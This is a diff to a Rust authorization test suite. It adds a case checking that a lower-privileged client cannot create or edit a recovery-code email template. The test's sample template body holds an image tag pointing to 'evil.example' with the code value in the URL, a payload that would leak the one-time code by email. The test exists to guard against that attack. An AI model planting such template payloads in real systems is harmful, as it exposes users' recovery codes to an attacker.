@@ -143,6 +143,17 @@ on_every_adapter! {
         forbidden(less.put(&path, own.clone()).await);
         let _ = strong.put(&path, own).await.expect_status(200);
         let _ = less.delete(&path).await.expect_status(204);
+        // Nor does a picture in it tell the code.
+        let words = json!({ "locale": "en", "deliveryMethod": "Email", "subject": "Code",
+            "body": "<img src=\"https://evil.example/${code.value}\">" });
+        let of = |template: &str| format!("/environments/{}/templates/{template}/contents", server.tenant.id);
+        forbidden(less.post(&of("recovery_code_template"), words.clone()).await);
+        let made = Api::created(strong.post(&of("recovery_code_template"), words.clone()).await);
+        let own = text(&made, "/_links/self/href");
+        forbidden(less.put(&own, words.clone()).await);
+        let _ = strong.put(&own, words.clone()).await.expect_status(200);
+        let _ = less.delete(&own).await.expect_status(204);
+        Api::created(less.post(&of("verification_code_template"), words).await);
     }
 
     async fn threat_39_nobody_leads_who_has_more_to_a_provider_of_their_own(server: TestServer) {
